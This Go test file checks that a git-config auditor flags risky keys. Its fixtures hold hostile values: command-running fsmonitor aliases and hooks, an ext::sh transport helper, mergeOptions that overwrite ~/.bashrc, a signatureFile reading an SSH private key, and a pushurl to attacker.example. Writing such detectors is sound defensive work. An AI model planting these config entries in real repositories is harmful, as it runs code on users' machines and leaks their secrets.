package gitguard

import "testing"

// Keys that make the user's git run a program, in sections otherwise
// harmless: each is a risk (found by attack passes: an alias without "!"
// that passes -c, gc.recentObjectsHook run by automatic gc since git 2.42).
func TestRiskInSafeSections(t *testing.T) {
	cfg := "[alias]\n\tst = -c core.fsmonitor=/x status\n\tco = checkout\n" +
		"[gc]\n\trecentObjectsHook = /x\n\tauto = 100\n" +
		"[core]\n\tfsmonitor = /x\n\tfsmonitor = true\n\tabbrev = 12\n\tsharedRepository = 0777\n" +
		"[lfs \"Extension.x\"]\n\tclean = /x\n"
	es, err := ParseConfig([]byte(cfg))
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]bool{ // risky?
		"alias.st": true, "alias.co": true, "gc.recentobjectshook": true, "gc.auto": false,
		"core.fsmonitor=/x": true, "core.fsmonitor=true": false, "core.abbrev": false,
		"core.sharedrepository": true, "lfs.Extension.x.clean": true,
	}
	for _, e := range es {
		name := e.Name
		if name == "core.fsmonitor" {
			name += "=" + e.Value
		}
		risky, ok := want[name]
		if !ok {
			t.Fatalf("unexpected entry %s", name)
		}
		if got := Risk(e) != ""; got != risky {
			t.Errorf("Risk(%s) = %q, want risky %v", name, Risk(e), risky)
		}
	}
}

// A transport helper ("<helper>::<address>") is a program; network URLs,
// local paths (a repository there is audited: repo) and remote names are
// not risks of the config itself. core.worktree moves the work tree out of
// the repository (found by an attack pass: git reset --hard then wrote
// ~/.config/git).
func TestRiskRemotesAndWorktree(t *testing.T) {
	cfg := "[remote \"a\"]\n\turl = https://github.com/x/y\n\tpushurl = /home/u/evil.git\n" +
		"[remote \"c\"]\n\turl = ext::sh -c x\n" +
		"[branch \"main\"]\n\tremote = origin\n\tpushRemote = fd::3\n" +
		"[core]\n\tworktree = /home/u\n"
	es, err := ParseConfig([]byte(cfg))
	if err != nil {
		t.Fatal(err)
	}
	want := []bool{false, true, true, false, true, true}
	if len(es) != len(want) {
		t.Fatalf("%d entries, want %d", len(es), len(want))
	}
	for i, e := range es {
		if got := Risk(e) != ""; got != want[i] {
			t.Errorf("Risk(%s = %s) = %q, want risky %v", e.Name, e.Value, Risk(e), want[i])
		}
	}
}

// Keys of the "safe" sections that still make the user's git write, read
// or send elsewhere (found by an attack pass: branch.<name>.mergeOptions
// with -Xindex-output= overwrote a file on git pull, -F made a hidden file
// the merge's message).
func TestRiskDataSectionsExceptions(t *testing.T) {
	cfg := "[branch \"main\"]\n\tmergeOptions = -s resolve -Xindex-output=/home/u/.bashrc\n\tmerge = refs/heads/main\n" +
		"[pull]\n\ttwohead = evil\n\toctopus = octopus\n\trebase = true\n" +
		"[format]\n\tsignatureFile = /home/u/.ssh/id_ed25519\n\tnumbered = auto\n" +
		"[lfs]\n\tstorage = /home/u\n\tfetchrecentalways = true\n" +
		"[remote \"origin\"]\n\tpushurl = https://attacker.example/x.git\n"
	es, err := ParseConfig([]byte(cfg))
	if err != nil {
		t.Fatal(err)
	}
	want := []bool{true, false, true, false, false, true, false, true, false, true}
	if len(es) != len(want) {
		t.Fatalf("%d entries, want %d", len(es), len(want))
	}
	for i, e := range es {
		if got := Risk(e) != ""; got != want[i] {
			t.Errorf("Risk(%s = %s) = %q, want risky %v", e.Name, e.Value, Risk(e), want[i])
		}
	}
}
